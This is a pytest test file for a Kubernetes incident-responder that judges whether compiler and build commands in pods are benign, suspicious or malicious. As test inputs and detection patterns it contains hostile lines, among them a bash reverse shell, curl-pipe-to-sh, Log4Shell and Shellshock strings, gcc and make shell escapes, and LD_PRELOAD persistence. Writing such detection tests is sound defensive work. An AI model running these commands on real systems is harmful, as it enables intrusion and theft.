from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from responder.evidence import (
    AuditEntry,
    AuditExtract,
    ContainerState,
    Evidence,
    Found,
    LogEntry,
    LogExtract,
    Namespace,
    OwnerChain,
    Pod,
    Related,
    RelatedFinding,
    Workload,
)
from responder.finding import Process, Target
from responder.ports import Precedent
from responder.record import Triage
from responder.triage import judge
from responder.triage.case import Case
from responder.triage.likeness import traits
from responder.triage.replay import again, flips
from responder.triage.rules import BUILT_IN, VERSION
from responder.triage.tuning import Tuning
from responder.triage.tuning import parse as parse_tuning
from tests.builders import EVENT_TIME, TARGET, a_finding, a_record, a_recorded, a_related

HOUR = timedelta(hours=1)
DIGEST = "sha256:" + "62" * 32


def lone(*argv: str, cwd: str | None = None, parents: tuple[str, ...] = ()) -> Triage:
    return judge(Case.of_execs([{"argv": argv}], cwd=cwd, parents=[parent.split() for parent in parents]))


def a_pod(**changes: Any) -> Pod:
    container = ContainerState(
        name=TARGET.container,
        kind="container",
        image=changes.pop("image", "registry.example/web/checkout:1"),
        image_id=f"registry.example/web/checkout@{DIGEST}",
        state="running",
        started_at=changes.pop("started", EVENT_TIME - 9 * HOUR),
        args=changes.pop("args", ()),
        privileged=changes.pop("privileged", False),
    )
    values: dict[str, Any] = {
        "namespace": TARGET.namespace, "name": TARGET.pod, "uid": "5b0c7e7e-9a43-4f6e-8f3a-6d0f2c1b9e55",
        "create_time": EVENT_TIME - 9 * HOUR, "phase": "Running", "node_name": "n", "service_account": "default",
        "automount_token": True, "host_network": False, "host_pid": False, "host_ipc": False, "host_paths": (),
        "owner": None, "labels": {}, "annotations": {}, "containers": (container,),
    }  # fmt: skip
    return Pod(**(values | changes))


def evidence(
    *related: RelatedFinding, pod: Pod | None = None, owner: str = "Deployment/checkout", namespace: str = "shop",
    audit: tuple[AuditEntry, ...] = (), log: tuple[str, ...] = (),
) -> Evidence:  # fmt: skip
    kind, name = owner.split("/")
    chain = OwnerChain(
        links=(Workload(api_version="v1", kind=kind, name=name, how_known="ownerReferences"),), complete=True
    )
    around: dict[str, Any] = {"filter": "f", "window_start": EVENT_TIME - HOUR, "window_end": EVENT_TIME + HOUR}
    lines = tuple(
        LogEntry(time=EVENT_TIME, severity="INFO", log_name="stderr", insert_id=str(n), text=text)
        for n, text in enumerate(log)
    )
    return Evidence(
        related=Found(value=Related(findings=related, **around), source="SCC"),
        pod=Found(value=pod or a_pod(), source="pods.get"),
        owners=Found(value=chain, source="owners"),
        namespace=Found(value=Namespace(name=namespace, labels={}, annotations={}), source="namespaces.get"),
        audit_log=Found(value=AuditExtract(entries=audit, read=1, truncated=False, pages=1, **around), source="logs"),
        pod_log=Found(value=LogExtract(entries=lines, read=1, truncated=False, pages=1, **around), source="logs"),
    )


def recorded(
    known: Evidence, *args: str, history: tuple[Precedent, ...] | None = (), tuning: Tuning | None = None
) -> Triage:
    finding = a_recorded(a_finding(args=args)) if args else a_recorded()
    processes = (Process(name="gcc", binary="/usr/bin/gcc", args=args, pid=53),) if args else finding.processes
    finding = a_recorded(a_finding(processes=processes))
    case = Case.of_record((finding,), TARGET, known, history, EVENT_TIME + HOUR)
    return judge(case, BUILT_IN, tuning or Tuning())


def an_entry(**changes: Any) -> AuditEntry:
    values: dict[str, Any] = {
        "time": EVENT_TIME - timedelta(minutes=2), "method": "pods.exec.create", "resource_name": "r",
        "principal": "j.doe@acme.example", "caller_ip": "203.0.113.66", "user_agent": "kubectl", "status": "",
        "session": "exec", "command": ("/bin/sh",),
    }  # fmt: skip
    return AuditEntry(**(values | changes))


# --- what the parts add up to -----------------------------------------------------------------------------------------


def test_the_score_is_the_base_and_the_weights_cut_at_both_ends() -> None:
    for triage in (lone("gcc", "a.c", "-o", "/tmp/.x/a"), recorded(evidence(a_related(binary="/tmp/.x/kworker")))):
        total = triage.base + sum(signal.weight for signal in triage.signals)
        assert triage.score == max(0, min(100, total))
        assert triage.rules == VERSION


def test_the_same_case_is_judged_the_same_each_time() -> None:
    assert recorded(evidence(a_related())) == recorded(evidence(a_related()))


def test_every_signal_points_into_the_record() -> None:
    triage = recorded(
        evidence(a_related(binary="/tmp/.x/kworker"), audit=(an_entry(),), log=("GET /r.php?c=which%20gcc",))
    )
    assert {s.id for s in triage.signals} >= {"R2", "P1", "L1", "A0"}
    assert "/evidence/audit_log/value/entries/0" in next(s for s in triage.signals if s.id == "P1").evidence
    assert "/findings/0/processes/0" in next(s for s in triage.signals if s.id == "A0").evidence


# --- a command line alone ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "gcc -wrapper /bin/sh,-s .",
        "gcc -static -o /dev/shm/.k /dev/shm/.k.c -pthread",
        "make --eval=x:;sh",
        "gcc -x c -E /etc/shadow",
        "make -C /lib/modules/6.1.0/build M=/root/x modules",
        "cc -shared -fPIC -o /lib/security/pam_x.so exploit.c",
    ],
)
def test_a_command_line_alone_is_suspicious_and_never_malicious(line: str) -> None:
    assert lone(*line.split()).verdict == "suspicious"


def test_nothing_known_is_no_benign() -> None:
    assert judge(Case(execs=())).verdict == "insufficient_data"
    assert lone("make").verdict == "insufficient_data"
    assert lone("gcc", "--version").verdict == "insufficient_data"


def test_a_forged_fingerprint_without_a_second_source_is_not_believed() -> None:
    line = "gcc build/temp.linux-x86_64-cpython-311/x.o -o build/lib.linux-x86_64-cpython-311/x.so -shared"
    forged = lone(*line.split())
    real = lone(
        *line.split(),
        cwd="/tmp/pip-install-a/x_0123",
        parents=("/usr/local/bin/python setup.py bdist_wheel", "pip install x"),
    )
    assert forged.verdict != "benign"
    assert not forged.builds
    assert real.verdict == "benign"
    assert real.builds == ("pip building x",)


def test_a_hidden_product_is_no_part_of_a_build_that_pip_runs() -> None:
    triage = lone(
        "gcc", "-o", "/tmp/.svc", "s.c", cwd="/tmp/pip-req-build-1", parents=("python setup.py", "pip install x")
    )
    assert triage.verdict == "suspicious"


def test_a_web_server_that_starts_a_shell_outweighs_a_builds_name() -> None:
    line = "gcc -O2 -fPIC -I/usr/include/python3.11 -c a.c -o build/temp.linux/a.o"
    triage = lone(*line.split(), parents=("python setup.py build_ext", "sh -c x", "apache2 -k start"))
    assert triage.verdict in {"suspicious", "malicious"}


# --- with a record ----------------------------------------------------------------------------------------------------


def test_the_product_that_ran_where_nothing_builds_makes_it_malicious() -> None:
    triage = recorded(evidence(a_related(binary="/tmp/.x/kworker", severity="LOW")))
    assert triage.verdict == "malicious"
    assert triage.severity == "HIGH"


def test_the_product_that_ran_in_a_pod_nobody_could_read_is_suspicious() -> None:
    known = evidence(a_related(binary="/tmp/.x/kworker", severity="LOW"))
    missing = Evidence(related=known.related)
    triage = recorded(missing)
    assert triage.verdict == "suspicious"
    assert any("pod" in text for text in triage.would_settle)


def test_a_reverse_shell_beside_a_build_is_an_attack_all_the_same() -> None:
    known = evidence(a_related(category="Reverse Shell", severity="CRITICAL"), owner="TaskRun/build", namespace="ci")
    triage = recorded(known, "cargo", "build", "--release")
    assert (triage.verdict, triage.severity) == ("malicious", "CRITICAL")
    assert all(signal.weight >= 0 for signal in triage.signals)


def test_two_sources_make_a_builder_and_one_does_not() -> None:
    line = ("gcc", "-o", "app", "main.c")
    one = recorded(evidence(namespace="ci"), *line)
    two = recorded(evidence(namespace="ci", owner="TaskRun/app-compile"), *line)
    assert one.verdict != "benign"
    assert two.verdict == "benign"
    assert two.techniques == ("T1027.004",)


def test_an_image_that_could_build_excuses_no_make_by_itself() -> None:
    known = evidence(pod=a_pod(image="docker.io/library/python:3.11"))
    assert recorded(known, "make", "-C", "/tmp/rk").verdict != "benign"
    assert recorded(known, "make", "-C", "/opt/rk").verdict != "benign"


def test_an_application_that_starts_a_shell_is_no_place_for_a_projects_build() -> None:
    triage = lone("cargo", "build", cwd="/app", parents=("sh -c x", "node server.js"))
    assert triage.verdict == "suspicious"


def test_a_download_of_the_very_source_takes_the_builders_excuse_away() -> None:
    line = ("gcc", "-o", "/tmp/app", "/tmp/main.c")
    known = evidence(namespace="ci", owner="TaskRun/app", log=("curl -s http://198.51.100.23/main.c -o /tmp/main.c",))
    triage = recorded(known, *line)
    assert triage.verdict in {"malicious", "suspicious"}
    assert "T1105" in triage.techniques


def test_a_persons_session_is_named_and_a_ci_accounts_is_not_held_against_it() -> None:
    person = recorded(evidence(audit=(an_entry(),)))
    runner = an_entry(principal="system:serviceaccount:gitlab-runner:gitlab-runner", session="attach")
    machine = recorded(evidence(audit=(runner,), namespace="gitlab-runner"))
    assert any("j.doe@acme.example" in s.title and "203.0.113.66" in s.title for s in person.signals)
    assert not any(s.id == "P1" for s in machine.signals)


def test_a_container_that_reaches_the_node_adds_half_and_raises_the_severity() -> None:
    plain, privileged = recorded(evidence()), recorded(evidence(pod=a_pod(privileged=True)))
    assert (plain.severity, privileged.severity) == ("MEDIUM", "HIGH")
    assert next(s for s in privileged.signals if s.id == "X1").weight > 0


def test_a_kernel_module_is_excused_by_a_drivers_daemon_set_alone() -> None:
    line = ("make", "-C", "/lib/modules/6.1.0/build", "M=/usr/src/nvidia", "modules")
    driver = evidence(pod=a_pod(image="nvcr.io/nvidia/driver:535", privileged=True), owner="DaemonSet/nvidia-driver")
    web = evidence(pod=a_pod(privileged=True))
    assert recorded(driver, *line).verdict == "benign"
    assert recorded(web, *line).verdict == "suspicious"


def test_parents_are_chained_by_pid_across_findings() -> None:
    make = Process(binary="/usr/bin/make", args=("make", "-C", "/src"), pid=10)
    gcc = Process(binary="/usr/bin/gcc", args=("gcc", "-c", "a.c"), pid=11, parent_pid=10)
    findings = (a_recorded(a_finding(processes=(gcc,))), a_recorded(a_finding(key="1/2", processes=(make,))))
    case = Case.of_record(findings, Target(), Evidence())
    assert case.execs[0].parents == (("make", "-C", "/src"),)


def test_a_loop_of_pids_ends() -> None:
    one = Process(args=("gcc", "a.c"), pid=1, parent_pid=2)
    two = Process(args=("make",), pid=2, parent_pid=1)
    case = Case.of_record((a_recorded(a_finding(processes=(one, two))),), Target(), Evidence())
    assert case.execs[0].parents == (("make",),)


# --- earlier records --------------------------------------------------------------------------------------------------


def a_precedent(days: int, **changes: Any) -> Precedent:
    values: dict[str, Any] = {
        "record_id": "ab" * 16, "window_start": EVENT_TIME - timedelta(days=days), "verdict": "insufficient_data",
        "reviewed": None, "same_image": True, "same_owner": True, "same_shape": True,
    }  # fmt: skip
    return Precedent(**(values | changes))


def weights(triage: Triage) -> dict[str, int]:
    return {signal.id: signal.weight for signal in triage.signals}


def test_what_happens_every_day_weighs_less_and_an_analysts_word_weighs_more() -> None:
    daily = tuple(a_precedent(n) for n in range(1, 5))
    called = (a_precedent(1, reviewed="benign_true_positive"),)
    assert weights(recorded(evidence(), history=daily))["H1"] < 0
    assert weights(recorded(evidence(), history=called))["H2"] < weights(recorded(evidence(), history=daily))["H1"]


def test_suspicious_days_that_nobody_looked_at_make_nothing_regular() -> None:
    unseen = tuple(a_precedent(n, verdict="suspicious") for n in range(1, 9))
    assert "H1" not in weights(recorded(evidence(), history=unseen))


def test_an_attack_that_an_analyst_confirmed_speaks_against_its_like() -> None:
    history = (a_precedent(1, reviewed="true_positive"), a_precedent(2, reviewed="false_positive"))
    found = weights(recorded(evidence(), history=history))
    assert found["H3"] > 0
    assert "H2" not in found


def test_a_store_that_could_not_be_asked_is_said() -> None:
    assert any("earlier records" in text for text in recorded(evidence(), history=None).would_settle)
    assert not any("earlier records" in text for text in recorded(evidence(), history=()).would_settle)


def test_a_record_is_like_another_by_digest_top_owner_and_shape() -> None:
    found = traits(Case.of_record((a_recorded(),), TARGET, evidence()))
    assert found.image_digest == DIGEST
    assert found.owner == "acme-shop-prod/europe-west1-b/shop-prod/shop/Deployment/checkout"
    assert len(found.shapes) == 1


# --- tuning and replay ------------------------------------------------------------------------------------------------

BUILDER = f"""
[[expected_builders]]
project = "acme-shop-prod"
namespace = "shop"
image_digest = "{DIGEST}"
owner = "build-tools@acme.example"
reason = "ticket SEC-1"
expires = 2026-12-31
"""


def test_an_expected_builder_is_benign_until_it_expires_and_then_it_is_named() -> None:
    live = recorded(evidence(), "gcc", "-o", "app", "main.c", tuning=parse_tuning(BUILDER))
    dead = recorded(
        evidence(), "gcc", "-o", "app", "main.c", tuning=parse_tuning(BUILDER.replace("2026-12-31", "2026-01-31"))
    )
    assert live.verdict == "benign"
    assert dead.verdict == "suspicious"
    assert "expired" in dead.tuning
    assert "build-tools@acme.example" in dead.tuning


def test_an_expected_builder_excuses_no_lolbin_and_no_attack_tool() -> None:
    for line in (("gcc", "-wrapper", "/bin/sh,-s", "."), ("gcc", "-o", "x", "cve-2021-4034.c")):
        assert recorded(evidence(), *line, tuning=parse_tuning(BUILDER)).verdict != "benign"


def test_a_replay_lists_the_verdicts_that_would_change() -> None:
    finding = a_finding(processes=(Process(binary="/usr/bin/gcc", args=("gcc", "-o", "app", "main.c")),))
    record = a_record(findings=(a_recorded(finding),), evidence=evidence())
    found = flips([record], parse_tuning(BUILDER))
    assert again(record).verdict == "suspicious"
    assert [(one.before.verdict, one.after.verdict) for one in found.flips] == [("suspicious", "benign")]
    assert "1 of 1" in found.said()
    assert flips([record], Tuning()).flips == ()


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("GET /r.php?c=which%20gcc", "L1"),
        ("POST /r.php;c=WHOAMI&d=1", "L1"),
        ("agent ${JNDI:ldap://203.0.113.66/a}", "L1"),
        ("agent () { :; }; id", "L1"),
        ("PHP Warning: system(): Cannot execute", "L1"),
        ("at java.lang.Runtime.getRuntime().exec(x)", "L1"),
        ("curl -s http://203.0.113.66/x.c", "L2"),
        ("base64 -d x", "L2"),
        ("curl -s x | sh", "L2"),
        ("apt-get -y install gcc", "W6"),
        ("apk --no-cache add build-base", "W6"),
        ("Setting up gcc", "W6"),
        ("Installing g++ (12.2)", "W6"),
        ("STRATUM+TCP to it", "L3"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "L3"),
        ("XMRig 6.21", "L3"),
        ("net new job from it", "L3"),
        ("cpu accepted (1/0)", "L3"),
        ("RandomX init", "L3"),
        ("Hashrate 1 kH", "L3"),
        ("\u017ftratum+tcp to it", "L3"),
        ("wrote /etc/ld.so.preload", "L3"),
        ("LD_PRELOAD=/tmp/x.so", "L3"),
        ("InsMod x", "L4"),
        ("modprobe x", "L4"),
        ("loading out-of-tree module", "L4"),
        ("module verification failed", "L4"),
    ],
)
def test_a_line_speaks_whatever_its_case_and_wherever_its_words_stand(line: str, sign: str) -> None:
    assert sign in {signal.id for signal in recorded(evidence(log=(f"09:41 {line} ok",))).signals}
    assert sign not in {signal.id for signal in recorded(evidence(log=("09:41 nothing to tell",))).signals}
